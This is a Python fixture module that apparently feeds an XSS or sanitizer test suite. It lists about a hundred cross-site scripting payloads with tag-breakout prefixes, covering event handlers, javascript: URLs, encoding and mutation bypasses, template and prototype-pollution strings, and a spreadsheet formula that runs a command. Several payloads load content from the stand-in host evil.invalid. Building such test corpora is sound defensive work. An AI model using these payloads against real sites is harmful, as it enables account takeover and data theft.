"""Texts that want to become something else: 300 for the long form, the first 20 for the short one.

Whatever comes alive calls ``ran(n)``, asks ``evil.invalid``, or leaves an element or attribute named ``xss``.
"""

WAYS_OUT = ("", '">', "'>", "</textarea>", "</script>", "</title>", "</style>", "--></noscript>", "</select>", "]]>")
VECTORS = (
    "<script>ran(1)</script>", "<img src=x onerror=ran(1)>", "<svg onload=ran(1)>", "<svg><script>ran(1)</script></svg>",
    "<details open ontoggle=ran(1)>", "<iframe srcdoc='<script>parent.ran(1)</script>'></iframe>",
    "<iframe src=javascript:parent.ran(1)></iframe>", "<a href=javascript:ran(1) xss=1>x</a>",
    "<form action=//evil.invalid xss=1><button>x</button></form>", "<base href=//evil.invalid/ xss=1>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/' xss=1>", "<link rel=stylesheet href=//evil.invalid/a.css xss=1>",
    "<style xss=1>@import '//evil.invalid/a.css';</style>", "<object data=//evil.invalid/a xss=1></object>",
    "<embed src=//evil.invalid/a xss=1>", "<video src=//evil.invalid/a onerror=ran(1)></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran(1)>", "<input autofocus onfocus=ran(1) xss=1>",
    "<marquee onstart=ran(1) xss=1>x</marquee>", "<template><script>ran(1)</script></template><xss></xss>",
    "<body onload=ran(1)>", "<button formaction=javascript:ran(1) xss=1>x</button>",
    "<img srcset='//evil.invalid/a 1x' xss=1>", "<audio src onerror=ran(1) xss=1></audio>", "<x style=background:url(//evil.invalid/a) xss=1>",
)  # fmt: skip
WITHOUT_TAGS = (
    '" onmouseover="ran(1)" autofocus onfocus="ran(1)" xss="1', "' onfocus='ran(1)' autofocus xss='1", "javascript:ran(1)",
    "{{ 7*191 }}{% raw %}", "${ran(1)}", "`${ran(1)}`", "\\u003cscript\\u003eran(1)\\u003c/script\\u003e",
    "&lt;script&gt;ran(1)&lt;/script&gt;", "&#60;img src=x onerror=ran(1)&#62;", "%3Cscript%3Eran(1)%3C/script%3E",
    "\u2028ran(1)\u2029", "');ran(1);//", '");ran(1);//', "</ScRiPt><sCrIpT>ran(1)</sCrIpT>", "<scr<script>ipt>ran(1)</scr</script>ipt>",
    "<img/src=x/onerror=ran(1)>", "<svg/onload=ran(1)//", "<<script>ran(1)//<</script>", "<img src=x onerror\x0b=ran(1)>",
    "data:text/html,<script>ran(1)</script>", "＜script＞ran(1)＜/script＞", "+ADw-script+AD4-ran(1)+ADw-/script+AD4-",
    "\x1b<script>ran(1)</script>", "*/ran(1)/*", "-->\n<script>ran(1)</script>", "url(javascript:ran(1))", "expression(ran(1))",
    "=cmd|' /C calc'!A0", "@SUM(1+1)*ran(1)", '{"__proto__":{"xss":1}}', "constructor.constructor('ran(1)')()",
    "[x](javascript:ran(1))", "![x](//evil.invalid/a)", "<![CDATA[<script>ran(1)</script>]]>", "<?xml version='1.0'?><xss/>",
    '"><svg><animate onbegin=ran(1) attributeName=x xss=1>', "<svg><use href='data:image/svg+xml,<svg id=x onload=ran(1)/>#x' xss=1></svg>",
    '<noscript><p title="</noscript><img src=x onerror=ran(1)>">', "<dialog open onclose=ran(1) xss=1>x</dialog>",
    "<select autofocus onfocus=ran(1) xss=1></select>", "<textarea autofocus onfocus=ran(1) xss=1></textarea>",
    "<keygen autofocus onfocus=ran(1) xss=1>", "<isindex action=javascript:ran(1) xss=1>", "<frameset onload=ran(1) xss=1></frameset>",
    "<object><param name=x value=//evil.invalid/a></object><xss></xss>", '<a href="&#106;avascript:ran(1)" xss=1>x</a>',
    "<a href='java\tscript:ran(1)' xss=1>x</a>", "<img src='x' onerror='&#114;an(1)' xss=1>", "<p onclick=ran(1) xss=1>x</p>", "<xss>",
)  # fmt: skip


def payloads(most: int) -> list[str]:
    """The first ``most`` of them, each with its number; the plain ones first."""
    plain = [vector for pair in zip(VECTORS, WITHOUT_TAGS, strict=False) for vector in pair]
    every = [*plain, *WITHOUT_TAGS[len(VECTORS) :], *(way + one for way in WAYS_OUT[1:] for one in VECTORS)]
    return [text.replace("ran(1)", f"ran({number})") for number, text in enumerate(every[:most], 1)]
